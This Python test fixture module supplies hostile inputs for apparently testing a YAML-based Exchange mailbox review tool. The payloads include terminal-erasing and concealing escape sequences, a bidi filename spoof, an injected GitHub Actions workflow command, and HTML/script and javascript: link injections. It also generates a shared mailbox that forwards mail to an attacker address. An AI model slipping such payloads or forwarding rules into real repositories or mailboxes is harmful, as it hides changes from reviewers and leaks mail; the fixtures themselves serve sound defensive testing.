"""Hostile values an attacker with write access to the repository (or to a mailbox's settings
in Exchange) would try, and the YAML that carries them."""

from __future__ import annotations

import json

# Moves the cursor up one line and erases it, thirty times: on a terminal, everything printed
# before it in the last thirty lines disappears.
ERASE = "\x1b[1A\x1b[2K" * 30
# A GitHub Actions workflow command on a line of its own.
WORKFLOW_COMMAND = "::warning file=README.md,line=1::Looks good"
PAYLOADS = {
    "erase": ERASE,
    "conceal": "\x1b[8mhidden",
    "c1-csi": "\u009b2J\u009bH",
    "del": "a\x7fb",
    "bidi": "safe\u202egnp.exe",
    "workflow-command": f"Hello\n{WORKFLOW_COMMAND}\n::add-mask::x",
    "carriage-return": "shown\roverwritten",
    "html": "</code></summary></details><img src=x onerror=alert(1)><script>x()</script>",
    "markdown": "```\n</details>\n| a | b |\n[click](javascript:alert(1))",
    "long": "x" * 100_000,
}


def q(value: str) -> str:
    """``value`` as a YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(value)


def shared_with(payload: str, alias: str = "quiet-forward") -> str:
    """A shared mailbox that forwards outside the company, with ``payload`` in its auto-reply
    messages: the change a hidden payload would smuggle past its reviewer."""
    return (
        "shared_mailboxes:\n"
        f"  - name: Quiet Forward {alias}\n"
        f"    alias: {alias}\n"
        "    forwarding: {external: attacker@example.org}\n"
        "    auto_reply:\n"
        "      state: Enabled\n"
        f"      internal_message: {q(payload)}\n"
        "      external_audience: All\n"
        f"      external_message: {q(payload)}\n"
    )


def every_payload() -> str:
    """One file holding a shared mailbox per payload."""
    parts = [shared_with(p, f"hostile-{name}").removeprefix("shared_mailboxes:\n")
             for name, p in PAYLOADS.items()]
    return "shared_mailboxes:\n" + "".join(parts)
